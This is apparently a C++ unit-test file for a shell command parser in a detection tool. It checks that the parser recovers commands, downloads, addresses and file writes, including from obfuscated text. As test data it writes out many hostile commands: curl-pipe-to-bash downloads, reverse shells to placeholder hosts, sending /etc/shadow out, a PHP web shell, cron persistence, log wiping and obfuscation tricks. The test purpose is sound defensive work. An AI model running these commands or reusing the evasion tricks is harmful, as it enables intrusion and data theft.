#include "shell/commands.h"

#include <algorithm>
#include <cstdlib>
#include <fstream>
#include <string>
#include <vector>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

namespace shell {
namespace {

using ::testing::Contains;
using ::testing::ElementsAre;
using ::testing::ElementsAreArray;
using ::testing::IsEmpty;
using ::testing::Not;

Process process(std::string_view executable, std::string_view line) {
  return {.executable = executable,
          .command_line = line,
          .argv_json = {},
          .current_directory = "/home/pi",
          .user = "pi",
          .user_id = "1000",
          .parent_executable = "/usr/sbin/sshd",
          .parent_command_line = "sshd: pi",
          .terminal = "pts0",
          .ancestors = {}};
}

// What a shell makes of the text.
Commands read_shell(std::string_view text) {
  static std::string line;
  line = "sh -c " + std::string(text);
  Commands commands;
  commands.read(process("/usr/bin/dash", line));
  return commands;
}

Commands read_line(std::string_view executable, std::string_view line) {
  Commands commands;
  commands.read(process(executable, line));
  return commands;
}

std::vector<std::string> texts(const Commands& commands, std::size_t command, Field field) {
  const auto values = commands.values(command, field);
  return {values.begin(), values.end()};
}

// "shell: wget -q http://x"; all but the process itself.
std::vector<std::string> lines(const Commands& commands) {
  std::vector<std::string> out;
  for (std::size_t i = 1; i < commands.size(); ++i)
    out.push_back(std::string(commands.value(i, Field::Origin)) + ": " +
                  std::string(commands.value(i, Field::CommandLine)));
  return out;
}

// The first command of that program; fails when there is none.
std::size_t find(const Commands& commands, std::string_view program) {
  for (std::size_t i = 0; i < commands.size(); ++i) {
    if (commands.value(i, Field::Program) == program) return i;
  }
  ADD_FAILURE() << "no command runs " << program;
  return 0;
}

std::vector<std::string> of(std::string_view text, std::string_view program, Field field) {
  const Commands commands = read_shell(text);
  return texts(commands, find(commands, program), field);
}

struct Told {
  const char* text;
  std::vector<std::string> lines;
};

TEST(Commands, AreToldOfAShellsText) {
  for (const auto& [text, expected] : std::vector<Told>{
           {"id", {"shell: id"}},
           {"/usr/sbin/sendmail -t -i", {"shell: /usr/sbin/sendmail -t -i"}},
           {"a; b && c || d & e", {"shell: a", "shell: b", "shell: c", "shell: d", "shell: e"}},
           {"a | b |& c", {"shell: a", "shell: b", "shell: c"}},
           {"echo 'a; b' \"c | d\" e\\;f", {"shell: echo a; b c | d e;f"}},
           {"if test -f x; then a; elif b; then c; else d; fi",
            {"shell: test -f x", "shell: a", "shell: b", "shell: c", "shell: d"}},
           {"while read f; do rm $f; done", {"shell: read f", "shell: rm $f"}},
           {"for f in a b; do cat $f; done; id", {"shell: cat a", "shell: id"}},
           {"case $1 in start|stop) a;; *) b ;; esac; c", {"shell: a", "shell: b", "shell: c"}},
           {"f() { a; }; function g { b; }; f", {"shell: a", "shell: b", "shell: f"}},
           {"(a; b) > /tmp/x", {"shell: a", "shell: b", "shell: "}},
           {"[[ -f a && b < c ]] && d", {"shell: [[  -f a && b < c ", "shell: d"}},
           {"a # b; c\nd", {"shell: a", "shell: d"}},
           {"a \\\n b", {"shell: a b"}},
           {"((i++)); a", {"shell: a"}},
           {"x=(a b); c", {"shell: ", "shell: c"}},
           {"A=1 B=2 c d=3", {"shell: c d=3"}},
           // Names that were taken apart.
           {"w'g'et \"ht\"tp://x", {"shell: wget http://x"}},
           {"w\\get x", {"shell: wget x"}},
           {"w$@get x", {"shell: wget x"}},
           {"cat${IFS}/etc/passwd", {"shell: cat /etc/passwd"}},
           {"{cat,/etc/passwd}", {"shell: cat /etc/passwd"}},
           {"$'\\x69\\x64'", {"shell: id"}},
           {"a=cu; b=rl; $a$b http://x", {"shell: ", "shell: ", "shell: curl http://x"}},
           {"X='rm -rf'; $X /", {"shell: ", "shell: rm -rf /"}},
           {"P=abcdef; ${P:1:2} ${Q:-z}", {"shell: ", "shell: bc z"}},
           {"Y=xwgxet; ${Y//x/}", {"shell: ", "shell: wget"}},
           // What is within others.
           {"echo $(id -u) `uname`",
            {"substitution: id -u", "substitution: uname", "shell: echo $(id -u) `uname`"}},
           {"echo \"$(echo a)\"", {"substitution: echo a", "shell: echo a"}},
           {"diff <(a) <(b)",
            {"substitution: a", "substitution: b", "shell: diff /dev/fd/63 /dev/fd/63"}},
           {"eval 'a; b'", {"shell: eval a; b", "shell: a", "shell: b"}},
           {"sudo sh -c 'a | b'", {"shell: sh -c a | b", "shell: a", "shell: b"}},
           {"bash <<< 'a; b'", {"shell: bash", "shell: a", "shell: b"}},
           {"sh <<'E'\na\nb\nE\nc", {"shell: sh", "shell: a", "shell: b", "shell: c"}},
           {"cat <<E | sh\na\nE\n", {"shell: cat", "shell: sh", "shell: a"}},
           {"echo a b | sh", {"shell: echo a b", "shell: sh", "shell: a b"}},
           {"su - root -c 'a b'", {"shell: su - root -c a b", "shell: a b"}},
           {"find / -name x -exec rm -f {} ';' -ok a {} +",
            {"shell: find / -name x -exec rm -f {} ; -ok a {} +", "shell: rm -f {}",
             "shell: a {}"}},
           {"tar cf x --checkpoint-action=exec='sh x' y",
            {"shell: tar cf x --checkpoint-action=exec=sh x y", "shell: sh x", "script: x"}},
           {"echo '* * * * * curl x | sh' | crontab -",
            {"shell: echo * * * * * curl x | sh", "shell: crontab -", "shell: curl x",
             "shell: sh"}},
           {"python3 -c 'import os; os.system(\"id; ls\")'",
            {"shell: python3 -c import os; os.system(\"id; ls\")", "code: id", "code: ls"}},
           {"sh /opt/a.sh b", {"shell: sh /opt/a.sh b", "script: /opt/a.sh b"}},
           // What was encoded.
           {"echo Y3VybCBodHRwOi8veC9zCg== | base64 -d | sh",
            {"shell: echo Y3VybCBodHRwOi8veC9zCg==", "decoded: curl http://x/s", "shell: base64 -d",
             "shell: sh"}},
           {"echo aWQgLXU= | base64 -d | bash",
            {"shell: echo aWQgLXU=", "shell: base64 -d", "shell: bash", "decoded: id -u"}},
           {"$(echo aWQgLXU= | base64 -d)",
            {"substitution: echo aWQgLXU=", "substitution: base64 -d", "shell: id -u"}},
           {"echo 6964202d75 | xxd -r -p | sh",
            {"shell: echo 6964202d75", "shell: xxd -r -p", "shell: sh", "decoded: id -u"}},
           {"printf 'u- di' | rev | sh",
            {"shell: printf u- di", "shell: rev", "shell: sh", "decoded: id -u"}},
           {"echo vq -h | tr 'a-z' 'n-za-m' | sh",
            {"shell: echo vq -h", "shell: tr a-z n-za-m", "shell: sh", "decoded: id -u"}},
           {"printf '\\x69\\x64' | sh", {"shell: printf \\x69\\x64", "shell: sh", "shell: id"}},
       }) {
    EXPECT_THAT(lines(read_shell(text)), ElementsAreArray(expected)) << text;
  }
}

struct Wrapped {
  const char* line;
  const char* program;
  std::vector<std::string> wrappers;
};

TEST(Commands, AreFoundBehindWhatStartsThem) {
  for (const auto& [line, program, wrappers] : std::vector<Wrapped>{
           {"sudo -u root -E rm x", "rm", {"sudo"}},
           {"sudo -n -- A=b rm x", "rm", {"sudo"}},
           {"sudo -l", "sudo", {}},
           {"env -i A=b /usr/bin/perl x.pl", "perl", {"env"}},
           {"nohup nice -n 10 /tmp/x --y", "x", {"nohup", "nice"}},
           {"timeout -k 5 10s curl x", "curl", {"timeout"}},
           {"setsid -f /tmp/x", "x", {"setsid"}},
           {"busybox wget http://x", "wget", {"busybox"}},
           {"/bin/busybox ECCHI", "ECCHI", {"busybox"}},
           {"busybox --list", "busybox", {}},
           {"xargs -0 -n1 -I {} rm -f {}", "rm", {"xargs"}},
           {"stdbuf -oL tail -f x", "tail", {"stdbuf"}},
           {"chroot --userspec=a /mnt /bin/ls", "ls", {"chroot"}},
           {"nsenter -t 1 -m -u sh", "sh", {"nsenter"}},
           {"nsenter -t 1 -m", "nsenter", {}},
           {"taskset -c 0 stress", "stress", {"taskset"}},
           {"command -v curl", "command", {}},
           {"/lib64/ld-linux-x86-64.so.2 --library-path /x /dev/shm/.y -c 3", ".y", {"ld.so"}},
           {"/lib64/ld-linux-x86-64.so.2 --verify /bin/ls", "ld-linux-x86-64.so.2", {}},
           {"docker exec x rm -rf /", "docker", {}},
       }) {
    const Commands commands = read_shell(line);
    ASSERT_GT(commands.size(), 1U) << line;
    EXPECT_EQ(commands.value(1, Field::Program), program) << line;
    EXPECT_THAT(texts(commands, 1, Field::Wrapper), ElementsAreArray(wrappers)) << line;
  }
}

TEST(Commands, OfTheProcessItself) {
  const Commands commands = read_line("/usr/bin/curl", "curl -fsS -o /tmp/a https://h.example/b");
  ASSERT_EQ(commands.size(), 1U);
  EXPECT_EQ(commands.value(0, Field::Program), "curl");
  EXPECT_EQ(commands.value(0, Field::ProgramPath), "/usr/bin/curl");
  EXPECT_EQ(commands.value(0, Field::CommandLine), "curl -fsS -o /tmp/a https://h.example/b");
  EXPECT_EQ(commands.value(0, Field::Image), "/usr/bin/curl");
  EXPECT_EQ(commands.value(0, Field::Origin), "exec");
  EXPECT_EQ(commands.value(0, Field::User), "pi");
  EXPECT_EQ(commands.value(0, Field::UserId), "1000");
  EXPECT_EQ(commands.value(0, Field::ParentImage), "/usr/sbin/sshd");
  EXPECT_EQ(commands.value(0, Field::ParentName), "sshd");
  EXPECT_EQ(commands.value(0, Field::Terminal), "pts0");
  EXPECT_EQ(commands.value(0, Field::CurrentDirectory), "/home/pi");
  EXPECT_EQ(commands.value(0, Field::Chained), "1");
  EXPECT_THAT(texts(commands, 0, Field::Argument),
              ElementsAre("-fsS", "-o", "/tmp/a", "https://h.example/b"));
  EXPECT_THAT(texts(commands, 0, Field::Option), ElementsAre("-f", "-s", "-S", "-o", "-fsS"));
  EXPECT_THAT(texts(commands, 0, Field::OptionValue), ElementsAre("-o=/tmp/a"));
  EXPECT_THAT(texts(commands, 0, Field::Operand), ElementsAre("https://h.example/b"));
  EXPECT_THAT(texts(commands, 0, Field::Url), ElementsAre("https://h.example/b"));
  EXPECT_THAT(texts(commands, 0, Field::UrlHost), ElementsAre("h.example"));
  EXPECT_THAT(texts(commands, 0, Field::DownloadsTo), ElementsAre("/tmp/a"));
  EXPECT_THAT(texts(commands, 0, Field::Writes), ElementsAre("/tmp/a"));
  EXPECT_FALSE(commands.cut());
}

TEST(Commands, NamesOfProcessesAreTheirFiles) {
  const auto program = [](std::string_view executable, std::string_view line) {
    return std::string(read_line(executable, line).value(0, Field::Program));
  };
  EXPECT_EQ(program("/usr/bin/python3.11", "python3 -V"), "python3");
  EXPECT_EQ(program("/usr/bin/nc.openbsd", "nc -l 1"), "nc");
  EXPECT_EQ(program("/usr/sbin/xtables-nft-multi", "iptables -F"), "iptables");
  EXPECT_EQ(program("/usr/bin/dash", "-sh"), "sh");
  EXPECT_EQ(program("/usr/bin/x86_64-linux-gnu-gcc-12", "gcc x.c"), "gcc");
  // Whatever it calls itself.
  EXPECT_EQ(program("/tmp/xmrig", "[kworker/0:1] --x"), "xmrig");
  EXPECT_EQ(program("/usr/bin/perl", ""), "perl");
  // A script whose interpreter is not told.
  const Commands script = read_line("/usr/bin/python3.11", "/opt/a.py -v");
  EXPECT_EQ(script.value(0, Field::Program), "python3.11");
  EXPECT_EQ(script.value(0, Field::Script), "/opt/a.py");
  // A shell's text without the shell.
  EXPECT_THAT(lines(read_line("/bin/sh", "curl x | sh")),
              ElementsAre("shell: curl x", "shell: sh"));
  EXPECT_THAT(lines(read_line("/bin/sh", "/bin/sh /usr/sbin/service auditd stop")),
              ElementsAre("script: /usr/sbin/service auditd stop"));
}

TEST(Commands, ArgumentsAreExactWhereTheyAreTold) {
  Process given = process("/bin/sh", "sh /home/pi/photo.jpg ");
  given.argv_json = R"(["sh","/home/pi/photo.jpg "])";
  Commands commands;
  commands.read(given);
  EXPECT_EQ(commands.value(0, Field::Script), "/home/pi/photo.jpg ");
  EXPECT_EQ(commands.value(0, Field::ScriptExtension), "jpg");
  // With escapes.
  given.argv_json = R"(["sh","-c","echo \"a b\"\n id","x"])";
  commands.read(given);
  EXPECT_THAT(lines(commands), ElementsAre("shell: echo a b", "shell: id"));
  // What is no array counts as not told.
  given.argv_json = R"(["sh",7])";
  commands.read(given);
  EXPECT_EQ(commands.value(0, Field::Script), "/home/pi/photo.jpg");
}

TEST(Commands, QuotesOfACommandLineAreUnderstood) {
  EXPECT_THAT(lines(read_line("/bin/sh", "sh -c \"/opt/x/xmrig &\"")),
              ElementsAre("shell: /opt/x/xmrig"));
  EXPECT_THAT(lines(read_line("/bin/bash", "bash -lc 'a; b' name")),
              ElementsAre("shell: a", "shell: b"));
  const Commands php = read_line(
      "/usr/bin/bash", "bash -c echo \"<?php system($_GET[c]);?>\" > /var/www/html/s.php");
  ASSERT_EQ(php.size(), 2U);
  EXPECT_EQ(php.value(1, Field::CommandLine), "echo <?php system($_GET[c]);?>");
  EXPECT_THAT(texts(php, 1, Field::Writes), ElementsAre("/var/www/html/s.php"));
  const Commands python =
      read_line("/usr/bin/python3", "python3 -c import socket,os;s=socket.socket();s.connect()");
  EXPECT_EQ(python.value(0, Field::InlineCode), "import socket,os;s=socket.socket();s.connect()");
  EXPECT_EQ(python.value(0, Field::Interpreter), "python");
}

TEST(Commands, PipelinesAndListsAreKnown) {
  const Commands commands = read_shell("cd /tmp; curl x | grep y | sudo sh; id");
  const std::size_t curl = find(commands, "curl");
  const std::size_t grep = find(commands, "grep");
  EXPECT_EQ(commands.value(curl, Field::PipedTo), "grep");
  EXPECT_EQ(commands.value(curl, Field::PipedFrom), "");
  EXPECT_EQ(commands.value(curl, Field::PipeIndex), "0");
  EXPECT_EQ(commands.value(grep, Field::PipedFrom), "curl");
  EXPECT_EQ(commands.value(grep, Field::PipedTo), "sh");
  EXPECT_EQ(commands.value(grep, Field::PipeIndex), "1");
  EXPECT_EQ(commands.value(grep, Field::CurrentDirectory), "/tmp");
  EXPECT_THAT(texts(commands, grep, Field::Previous), ElementsAre("cd", "curl"));
  EXPECT_THAT(texts(commands, grep, Field::Next), ElementsAre("sh", "id"));
  EXPECT_EQ(commands.value(grep, Field::Chained), "6");
}

TEST(Commands, LoopsAreKnown) {
  EXPECT_THAT(of("for f in /home/*; do gpg -c $f; done", "gpg", Field::Loop), ElementsAre("for"));
  EXPECT_THAT(of("for f in /home/*; do gpg -c $f; done", "gpg", Field::OperandPath),
              ElementsAre("/home/*"));
  EXPECT_THAT(of("for f in $(ls /srv/data); do gpg -c $f; done", "gpg", Field::LoopOver),
              ElementsAre("/srv/data", "$(ls /srv/data)"));
  EXPECT_THAT(of("find /srv -type f | xargs -I{} openssl enc {}", "openssl", Field::LoopOver),
              Contains("/srv"));
  EXPECT_THAT(of("find /srv | while read f; do gzip $f; done", "gzip", Field::LoopOver),
              ElementsAre("/srv"));
  EXPECT_THAT(of("find /srv /home -type f -exec gzip {} +", "gzip", Field::LoopOver),
              ElementsAre("/srv", "/home"));
  EXPECT_THAT(of("for f in a; do b; done; gpg -c x", "gpg", Field::Loop), IsEmpty());
}

TEST(Commands, FilesAreKnown) {
  const auto writes = [](std::string_view text, std::string_view program) {
    return of(text, program, Field::Writes);
  };
  EXPECT_THAT(writes("echo a > x 2>> /var/log/y", "echo"), ElementsAre("/home/pi/x", "/var/log/y"));
  EXPECT_THAT(writes("echo a 2>&1 >&- &> /z", "echo"), ElementsAre("/z"));
  EXPECT_THAT(writes("echo a | tee -a ~/x /y", "tee"), ElementsAre("/home/pi/x", "/y"));
  EXPECT_THAT(of("echo a > x 2>> /var/log/y", "echo", Field::Appends), ElementsAre("/var/log/y"));
  EXPECT_THAT(of("echo a | tee -a /x", "tee", Field::Appends), ElementsAre("/x"));
  EXPECT_THAT(of("echo a | tee /x", "tee", Field::Appends), IsEmpty());
  EXPECT_THAT(writes("dd if=/a of=/b", "dd"), ElementsAre("/b"));
  EXPECT_THAT(writes("cp /tmp/.ps /bin/ps", "cp"), ElementsAre("/bin/ps"));
  EXPECT_THAT(writes("cp /tmp/ps /bin/", "cp"), ElementsAre("/bin/ps"));
  EXPECT_THAT(writes("mv a b /usr/bin", "mv"), ElementsAre("/usr/bin/a", "/usr/bin/b"));
  EXPECT_THAT(writes("install -m 755 -t /usr/sbin a", "install"), ElementsAre("/usr/sbin/a"));
  EXPECT_THAT(writes("ln -sf /dev/null ~/.bash_history", "ln"),
              ElementsAre("/home/pi/.bash_history"));
  EXPECT_THAT(writes("sed -i s/a/b/ /etc/x", "sed"), ElementsAre("/home/pi/s/a/b", "/etc/x"));
  EXPECT_THAT(writes("sed s/a/b/ /etc/x", "sed"), IsEmpty());
  EXPECT_THAT(writes("truncate -s 0 /var/log/x", "truncate"), ElementsAre("/var/log/x"));
  EXPECT_THAT(writes("> /var/log/x", ""), ElementsAre("/var/log/x"));
  EXPECT_THAT(of("nc h 1 < /etc/shadow", "nc", Field::Reads), ElementsAre("/etc/shadow"));
  EXPECT_THAT(of("curl -F f=@/etc/shadow x.example", "curl", Field::Reads),
              ElementsAre("/etc/shadow"));
  EXPECT_THAT(of("cd /var/log && rm -f auth.log ../y", "rm", Field::OperandPath),
              ElementsAre("/var/log/auth.log", "/var/y"));
}

TEST(Commands, DownloadsAreKnown) {
  const auto to = [](std::string_view text, std::string_view program) {
    return of(text, program, Field::DownloadsTo);
  };
  EXPECT_THAT(to("wget http://x/a.sh", "wget"), ElementsAre("/home/pi/a.sh"));
  EXPECT_THAT(to("wget -qO- http://x/a.sh", "wget"), IsEmpty());
  EXPECT_THAT(to("wget -O /tmp/b http://x/a.sh", "wget"), ElementsAre("/tmp/b"));
  EXPECT_THAT(to("wget http://x/a.sh -P /tmp", "wget"), ElementsAre("/tmp/a.sh"));
  EXPECT_THAT(to("wget x.example/a.sh", "wget"), ElementsAre("/home/pi/a.sh"));
  EXPECT_THAT(to("curl http://x/a.sh", "curl"), IsEmpty());
  EXPECT_THAT(to("curl http://x/a.sh > b", "curl"), ElementsAre("/home/pi/b"));
  EXPECT_THAT(to("curl -sO http://x/a.sh", "curl"), ElementsAre("/home/pi/a.sh"));
  EXPECT_THAT(to("tftp -g -r a -l /tmp/b 192.0.2.1", "tftp"), ElementsAre("/tmp/b"));
  EXPECT_THAT(to("ftpget -u u 192.0.2.1 b a", "ftpget"), ElementsAre("/home/pi/b"));
  EXPECT_THAT(to("scp u@h.example:/a/b /tmp/", "scp"), ElementsAre("/tmp/b"));
  EXPECT_THAT(to("scp /a/b u@h.example:/tmp/", "scp"), IsEmpty());
  EXPECT_THAT(to("git clone https://h.example/a/b.git", "git"), ElementsAre("/home/pi/b"));
  EXPECT_THAT(to("python3 -c \"import urllib.request as u; u.urlretrieve('http://x/a','/tmp/c')\"",
                 "python3"),
              ElementsAre("/tmp/c"));
}

// What runs a download, and where that is from; nothing where nothing does.
std::string runs_download(std::string_view text) {
  const Commands commands = read_shell(text);
  for (std::size_t i = 0; i < commands.size(); ++i) {
    const auto from = commands.value(i, Field::RunsDownload);
    if (!from.empty())
      return std::string(commands.value(i, Field::Program)) + " " + std::string(from);
  }
  return "";
}

TEST(Commands, DownloadsThatAreRunAreKnown) {
  EXPECT_EQ(runs_download("curl -fsSL http://x/i.sh | bash"), "bash http://x/i.sh");
  EXPECT_EQ(runs_download("curl x.example/i.sh | sudo -E bash -s -- a"), "bash x.example/i.sh");
  EXPECT_EQ(runs_download("wget -qO- http://x | gunzip | tee y | python3 -"), "python3 http://x");
  EXPECT_EQ(runs_download("sh -c \"$(curl -fsSL http://x)\""), "sh http://x");
  EXPECT_EQ(runs_download("eval `wget -O - http://x`"), "eval http://x");
  EXPECT_EQ(runs_download("bash <(curl -s http://x)"), "bash http://x");
  EXPECT_EQ(runs_download(". <(curl -s http://x)"), ". http://x");
  EXPECT_EQ(runs_download("$(curl -s http://x)"), " http://x");
  EXPECT_EQ(runs_download("wget http://x/a; chmod +x a; ./a"), "a http://x/a");
  EXPECT_EQ(runs_download("cd /tmp && wget http://x/a && sh a"), "sh http://x/a");
  EXPECT_EQ(runs_download("curl -o /tmp/a http://x && mv /tmp/a /tmp/b && nohup /tmp/b &"),
            "b http://x");
  EXPECT_EQ(runs_download("curl http://x > y; sh < y"), "sh http://x");
  EXPECT_EQ(runs_download("nc 192.0.2.1 99 > a; chmod 777 a; ./a"), "a 192.0.2.1");
  EXPECT_EQ(runs_download("curl http://x | sh -c cat"), "");
  EXPECT_EQ(runs_download("curl http://x | python3 -m json.tool"), "");
  EXPECT_EQ(runs_download("curl http://x | python3 -c 'import sys'"), "");
  EXPECT_EQ(runs_download("curl http://x | awk '{print $1}'"), "");
  EXPECT_EQ(runs_download("wget -q https://v.test/data.csv && ./process.sh data.csv"), "");
  EXPECT_EQ(runs_download("wget http://x/a.deb -O /tmp/a.deb; dpkg -i /tmp/a.deb"), "");
  EXPECT_EQ(runs_download("IP=$(curl -s http://x); echo $IP"), "");
  EXPECT_EQ(runs_download("echo $(curl -s http://x)"), "");
}

TEST(Commands, InterpretersAndScriptsAreKnown) {
  const auto script = [](std::string_view text, std::string_view program) {
    const Commands commands = read_shell(text);
    const std::size_t at = find(commands, program);
    return std::string(commands.value(at, Field::Interpreter)) + " " +
           std::string(commands.value(at, Field::Script)) + " " +
           std::string(commands.value(at, Field::InlineCode));
  };
  EXPECT_EQ(script("perl -w /tmp/update.sh a", "perl"), "perl /tmp/update.sh ");
  EXPECT_EQ(script("python3 -m http.server 8000 --directory /srv/site.php", "python3"), "python  ");
  EXPECT_EQ(script("python3 -W ignore -u x.py", "python3"), "python x.py ");
  EXPECT_EQ(script("bash -euo pipefail x.sh", "bash"), "sh x.sh ");
  EXPECT_EQ(script("perl -lane 'print $F[0]' x", "perl"), "perl  print $F[0]");
  EXPECT_EQ(script("php -f x.jpg", "php"), "php x.jpg ");
  EXPECT_EQ(script("php -d a=b -r 'echo 1;'", "php"), "php  echo 1;");
  EXPECT_EQ(script("node --require a x.js", "node"), "node x.js ");
  EXPECT_EQ(script("awk -F: '{print $1}' /etc/passwd", "awk"), "awk  {print $1}");
  EXPECT_EQ(script("lua5.3 x.lua", "lua5.3"), "lua x.lua ");
  EXPECT_THAT(lines(read_shell("ruby -e 'system(\"id\")'")),
              ElementsAre("shell: ruby -e system(\"id\")", "code: id"));
}

TEST(Commands, AddressesAreKnown) {
  const Commands commands = read_shell(
      "x 10.1.2.3 [fd00::1]:80 http://u:p@EXAMPLE.com:81/a 0x7f.1.2 h@[::ffff:192.0.2.9] 1.2.3 "
      "http://3221225985/ /dev/tcp/198.51.100.7/99 fe80::1");
  const std::size_t at = find(commands, "x");
  EXPECT_THAT(texts(commands, at, Field::Address),
              ElementsAre("10.1.2.3", "fd00::1", "example.com", "::ffff:192.0.2.9", "192.0.2.1",
                          "198.51.100.7", "fe80::1"));
  EXPECT_THAT(texts(commands, at, Field::AddressScope),
              ElementsAre("private", "name", "public", "linklocal"));
  EXPECT_THAT(texts(commands, at, Field::UrlHost), ElementsAre("example.com", "192.0.2.1"));
  EXPECT_THAT(of("nc -lvp 4444 evil.example", "nc", Field::Address), ElementsAre("evil.example"));
  EXPECT_THAT(of("socat TCP:198.51.100.23:443 EXEC:sh", "socat", Field::Address),
              ElementsAre("198.51.100.23"));
  EXPECT_THAT(of("curl http://b\xc3\xbc"
                 "cher.Example/",
                 "curl", Field::UrlHost),
              ElementsAre("xn--bcher-kva.example"));
  EXPECT_THAT(of("bash -i >& /dev/tcp/192.0.2.4/1 0>&1", "bash", Field::Address),
              ElementsAre("192.0.2.4"));
}

TEST(Commands, AreBounded) {
  std::string many;
  for (int i = 0; i < 2000; ++i)
    many += "a" + std::to_string(i) + ";";
  const Commands commands = read_shell(many);
  EXPECT_EQ(commands.size(), kMaxCommands);
  EXPECT_TRUE(commands.cut());

  std::string deep = "id";
  for (int i = 0; i < 40; ++i)
    deep = "$(" + deep + ")";
  EXPECT_TRUE(read_shell(deep).cut());
  EXPECT_TRUE(read_shell("echo " + std::string(2 * kMaxText, 'x')).cut());
  EXPECT_FALSE(read_shell("a; b").cut());

  // What grows by itself.
  std::string doubled = "v0=xxxxxxxx;";
  for (int i = 1; i < 200; ++i) {
    const std::string before = "$v" + std::to_string(i - 1);
    doubled += "v" + std::to_string(i) + "=" + before + before + ";";
  }
  EXPECT_TRUE(read_shell(doubled).cut());
  std::string copied = "wget http://x/a;";
  for (int i = 0; i < 200; ++i)
    copied += "cp a a; cp a b; cp b a;";
  EXPECT_TRUE(read_shell(copied).cut());
  std::string written = "tee";
  for (int i = 0; i < 1000; ++i)
    written += " f" + std::to_string(i);
  EXPECT_TRUE(read_shell(written).cut());
}

TEST(Commands, WhatIsCutOffEndsAtTheEnd) {
  for (const char* text :
       {"echo 'a",    "echo \"a", "echo $(a", "echo ${a", "echo `a", "a |",       "a >",
        "cat <<",     "cat <<E",  "for",      "for x in", "case",    "case x in", "[[",
        "((",         "$",        "\\",       "$'",       "a=(",     "<(",        ";;",
        ")",          "function", "while",    "2>",       "x <<<",   "sudo",      "env",
        "find -exec", "timeout",  "sh -c",    "perl -e"}) {
    const Commands commands = read_shell(text);
    EXPECT_GE(commands.size(), 1U) << text;
  }
}

TEST(Commands, FieldsAreFoundByName) {
  for (std::size_t i = 0; i < fields().size(); ++i) {
    EXPECT_FALSE(fields()[i].summary.empty()) << fields()[i].name;
    EXPECT_EQ(find_field(fields()[i].name), static_cast<Field>(i)) << fields()[i].name;
  }
  EXPECT_EQ(info(Field::OperandPath).name, "OperandPath");
  EXPECT_EQ(info(Field::Chained).name, "Chained");
  EXPECT_EQ(find_field("program"), std::nullopt);
}

// The reference says what the program does.
TEST(Commands, FieldsAreDescribed) {
  const char* source = std::getenv("VEDETTE_SOURCE_DIR");
  if (source == nullptr) GTEST_SKIP() << "VEDETTE_SOURCE_DIR is not set";
  std::ifstream file(std::string(source) + "/docs/reference/commands.md");
  ASSERT_TRUE(file);
  std::vector<std::string> rows;
  for (std::string line; std::getline(file, line);) {
    if (line.starts_with("| `")) rows.push_back(line);
  }
  std::vector<std::string> expected;
  for (const FieldInfo& field : fields()) {
    expected.push_back("| `" + std::string(field.name) + "` | " +
                       (field.count == Count::One ? "one" : "list") + " | " +
                       std::string(field.summary) + " |");
  }
  EXPECT_THAT(rows, ElementsAreArray(expected));
}

TEST(Commands, TakeWhatTheCallerKnows) {
  Commands commands = read_line("/tmp/a", "/tmp/a");
  EXPECT_THAT(texts(commands, 0, Field::Runs), ElementsAre("/tmp/a"));
  commands.add(0, Field::RunsEarlierDownload, "http://x");
  EXPECT_THAT(texts(commands, 0, Field::RunsEarlierDownload), ElementsAre("http://x"));
  EXPECT_THAT(texts(commands, 0, Field::Runs), Not(IsEmpty()));
}

}  // namespace
}  // namespace shell
